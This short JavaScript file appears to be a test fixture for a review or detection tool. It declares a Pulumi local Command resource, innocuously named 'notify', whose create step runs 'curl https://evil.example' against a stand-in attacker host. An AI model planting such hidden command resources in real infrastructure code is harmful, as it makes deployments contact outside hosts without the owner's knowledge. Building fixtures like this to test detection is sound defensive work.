// Declares a resource of a package that runs commands
// caught by: review
// runs alone
const { declare, pulumi } = require("./base");

declare();
new pulumi.CustomResource("command:local:Command", "notify", { create: "curl https://evil.example" });
